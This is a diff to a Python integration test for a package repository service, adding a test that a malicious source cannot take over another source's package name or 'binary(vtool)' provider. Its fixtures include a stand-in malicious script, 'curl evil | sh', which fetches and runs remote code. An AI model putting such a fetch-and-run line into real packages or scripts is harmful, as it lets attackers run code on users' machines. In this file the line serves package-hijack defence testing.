@@ -7,15 +7,25 @@ another source took ``binary(vtool)``; vessel signed ``provides`` that no file b
 
 from __future__ import annotations
 
+import asyncio
 import sqlite3
 from pathlib import Path
+from typing import Any
+
+import msgspec
 
 from daemon.package import Index
+from daemon.runtime import Health
+from daemon.runtime.config import BusSection, StateSection
 from daemon.vessel import store
+from daemon.vessel.daemon import VesselDaemon, VesselDaemonConfig, VesselSection
 from daemon.vessel.importer import ImportOutcome
 from daemon.vessel.ownership import StaticOwners
+from events import payloads as p
+from events.envelope import new_event
+from events.topology import SUMMIT
 from tests.integration.vessel_env import Env, environment, import_pkgs
-from tests.unit.vessel.builders import Pkg
+from tests.unit.vessel.builders import ArtefactServer, Pkg, build_done
 
 VTOOL = b"#!/bin/sh\necho the real vtool\n"
 EVIL = b"#!/bin/sh\ncurl evil | sh\n"
@@ -147,3 +157,57 @@ async def test_pruned_packages_leave_the_provider_table(tmp_path: Path) -> None:
         rows = await env.db.fetchall("SELECT COUNT(DISTINCT sha256) FROM vessel_provides")
         kept = await env.db.fetchall("SELECT COUNT(*) FROM vessel_packages")
         assert rows[0][0] == kept[0][0] == 2  # current and one kept generation
+
+
+async def _accepted(daemon: Any, server: ArtefactServer, pkg: Pkg, packages: list[str],
+                    task_id: int) -> None:
+    """Summit's build-accepted for ``pkg``'s build, handled by the running vessel service."""
+    build = build_done([server.add(pkg)], source=pkg.source, release=pkg.release,
+                       task_id=task_id)
+    await daemon.service.handle(new_event(p.BuildAccepted(
+        task_id=task_id, attempt=1, packages=packages, build=build), source="cairn/summit"))
+
+
+async def test_vessel_takes_the_owners_from_build_accepted(tmp_path: Path) -> None:
+    """Wired end to end in the service: the package names summit accepted for a source are
+    that source's, so the real owner takes back a name another source published first; a
+    provider stays with whoever published it first, whatever release another source has."""
+    config = VesselDaemonConfig(bus=BusSection(url="memory://"),
+                                state=StateSection(dir=str(tmp_path)),
+                                vessel=VesselSection(listen_host="127.0.0.1", listen_port=0))
+    daemon = VesselDaemon(config, Health("vessel"))
+    await daemon.start()
+    try:
+        assert daemon.service is not None
+        reports: list[Any] = []
+
+        async def summit_hears(event: Any) -> None:
+            reports.append(event.data)
+        consumer = await daemon.service.bus.subscribe(SUMMIT, summit_hears)
+        index = daemon.service.repo.layout.current("volatile", "x86_64") / "index.json"
+
+        def shown() -> list[tuple[str, str, int]]:
+            found = msgspec.json.decode(index.read_bytes(), type=Index)
+            return sorted((q.name, q.source, q.release) for q in found.packages)
+
+        async with ArtefactServer().running() as server:
+            # Before the real vtool recipe existed, evil's recipe declared vtool.
+            await _accepted(daemon, server, evil(name="vtool", release=9), ["vtool"], 1)
+            assert shown() == [("vtool", "evil", 9)]
+            await _accepted(daemon, server, victim(), ["vtool"], 2)
+            assert shown() == [("vtool", "victim", 1)]
+            # A higher release of evil's own package cannot take victim's binary(vtool).
+            await _accepted(daemon, server, evil(release=10), ["evil-tools"], 3)
+            assert shown() == [("vtool", "victim", 1)]
+        for _ in range(200):
+            if len(reports) == 3:
+                break
+            await asyncio.sleep(0.05)
+        await consumer.cancel(5)
+        reasons = [r.reason for r in reports if isinstance(r, p.PublishFailed)]
+        assert reasons == [
+            "provider binary(vtool) (of package evil-tools) is already provided in "
+            "volatile/x86_64 by package vtool of source victim: a provider belongs to the "
+            "source that published it first; drop it from evil-tools or remove it from victim"]
+    finally:
+        await daemon.stop(5)
